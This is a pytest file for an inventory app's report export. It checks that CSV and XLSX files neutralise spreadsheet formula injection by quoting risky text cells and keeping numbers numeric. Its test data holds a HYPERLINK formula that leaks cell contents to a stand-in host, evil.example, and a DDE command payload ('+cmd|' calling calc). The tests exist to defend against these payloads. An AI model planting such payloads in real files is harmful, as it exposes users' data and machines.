"""Report files a spreadsheet can open safely: a text cell that would start a formula is
written behind a quote (one more quote where it already had some, so that an import
undoes it exactly), numbers stay numbers, and CSV starts with a UTF-8 byte order mark."""

from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from typing import Any

import openpyxl
import pytest

from stockkeeper.reports.service.export import csv_chunks, neutralised, xlsx_chunks
from tests.support import Api

LOW_STOCK = "/api/v1/inventory/reports/low-stock"
FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"Open")'


def _undone(cell: str) -> str:
    """What an import does: one leading quote off a cell of quotes and a formula's start."""
    return cell[1:] if re.match(r"'+[=+\-@\t\r]", cell) else cell


TEXTS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "'=1",
    "''@x",
    "'plain",
    "plain",
    "a=b",
    "",
]


@pytest.mark.parametrize("text", TEXTS)
def test_neutralising_is_undone_exactly_by_removing_one_quote(text: str) -> None:
    written = neutralised(text)
    starts_a_formula = re.match(r"'*[=+\-@\t\r]", text) is not None
    assert written == ("'" + text if starts_a_formula else text)
    assert _undone(written) == text


def _unescaped(text: str) -> str:
    """XLSX writes control characters as ``_x000D_``, which Excel reads back and openpyxl
    leaves as it is."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), text)


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), data[:10]
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


COLUMNS = [("Code", "code"), ("Quantity", "quantity"), ("Count", "count")]
ROWS: list[dict[str, Any]] = [
    {"code": text, "quantity": Decimal("-2.5"), "count": -3} for text in TEXTS
]


def test_files_neutralise_text_cells_and_keep_numbers() -> None:
    rows = _csv_rows(b"".join(csv_chunks(COLUMNS, ROWS)))
    assert rows[0] == ["Code", "Quantity", "Count"]
    assert [row[0] for row in rows[1:]] == [neutralised(text) for text in TEXTS]
    assert [_undone(row[0]) for row in rows[1:]] == TEXTS
    assert {(row[1], row[2]) for row in rows[1:]} == {("-2.5", "-3")}

    book = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_chunks(COLUMNS, ROWS, "Codes"))))
    sheet = book.active
    assert sheet is not None
    cells = list(sheet.iter_rows(min_row=2))
    codes = [_unescaped(row[0].value or "") for row in cells]  # an empty text is no cell
    assert codes == [neutralised(text) for text in TEXTS]
    assert {row[0].data_type for row in cells if row[0].value} == {"s"}
    assert {(row[1].value, row[1].data_type, row[2].value) for row in cells} == {(-2.5, "n", -3)}


def test_a_report_with_formulas_in_its_names_downloads_safely(api: Api) -> None:
    api.data(api.put("/api/v1/settings", {"allowNegativeStock": True}))
    location = api.location(name="+cmd|'/C calc'!A0")["id"]
    supplier = api.supplier(name="@SUM(1+1)")["id"]
    item = api.item(
        itemCode=FORMULA, name="'=1+1", supplierId=supplier, inventory={"minimumStock": 5}
    )["id"]
    api.adjust(location, (item, 2, 1))
    api.create(
        "/api/v1/inventory/adjustments",
        {
            "reason": "lost",
            "locationId": location,
            "items": [{"itemId": item, "adjustmentQuantity": -5}],
        },
    )
    csv_file = api.get(LOW_STOCK, params={"format": "csv"})
    assert csv_file.headers["content-type"] == "text/csv; charset=utf-8"
    heading, row = _csv_rows(csv_file.content)
    got = dict(zip(heading, row, strict=True))
    assert got["Item code"] == "'" + FORMULA
    assert got["Item"] == "''=1+1"
    assert got["Location"] == "'+cmd|'/C calc'!A0"
    assert got["Supplier"] == "'@SUM(1+1)"
    assert got["Current stock"] == "-3"

    book = openpyxl.load_workbook(io.BytesIO(api.get(LOW_STOCK, params={"format": "xlsx"}).content))
    sheet = book.active
    assert sheet is not None
    names = [cell.value for cell in sheet[1]]
    cells = {name: cell for name, cell in zip(names, sheet[2], strict=True)}
    assert cells["Item code"].value == "'" + FORMULA and cells["Item code"].data_type == "s"
    assert cells["Item"].value == "''=1+1"
    assert (cells["Current stock"].value, cells["Current stock"].data_type) == (-3, "n")
